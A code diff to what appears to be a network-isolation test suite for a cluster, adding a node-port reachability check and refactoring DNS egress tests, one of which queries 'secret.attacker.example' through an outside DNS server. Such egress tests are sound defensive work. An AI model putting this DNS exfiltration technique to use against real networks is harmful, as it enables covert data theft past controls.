@@ -274,6 +274,7 @@ for _name, _target in (
     ("reach-nats-routes", "nats routes"),
     ("reach-the-operator", "operator"),
     ("reach-dns-readiness", "dns readiness"),
+    ("reach-a-node-port", "node port"),
 ):
     _network(_name, _target)
 
@@ -289,12 +290,21 @@ def ask_for_cloud_metadata():
 
 
 @attempt
+def leave_by_the_clusters_dns():
+    return _ask_a_dns_server("dns", "secret.users.svc.cluster.local")
+
+
+@attempt
 def leave_by_another_dns_server():
+    return _ask_a_dns_server("dns elsewhere", "secret.attacker.example")
+
+
+def _ask_a_dns_server(target, name):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
         wire.settimeout(DROPPED_S)
-        host, _, port = TARGETS["dns elsewhere"].rpartition(":")
+        host, _, port = TARGETS[target].rpartition(":")
         wire.connect((host, int(port)))
-        wire.send(_question("secret.attacker.example"))
+        wire.send(_question(name))
         return wire.recv(512).hex()
 
 
